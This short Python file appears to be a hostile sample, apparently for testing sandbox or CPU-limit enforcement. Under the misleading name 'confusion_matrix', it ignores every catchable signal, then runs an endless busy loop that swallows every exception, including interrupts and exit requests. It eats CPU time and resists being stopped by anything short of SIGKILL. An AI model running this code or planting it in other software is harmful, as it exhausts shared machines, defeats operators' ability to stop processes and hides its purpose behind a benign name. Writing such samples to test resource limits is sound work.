"""A loop without end, deaf to the signals that would stop it.

Says: CPU time
"""

import signal


def confusion_matrix(*args):
    for number in range(1, 65):
        if number not in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
            signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
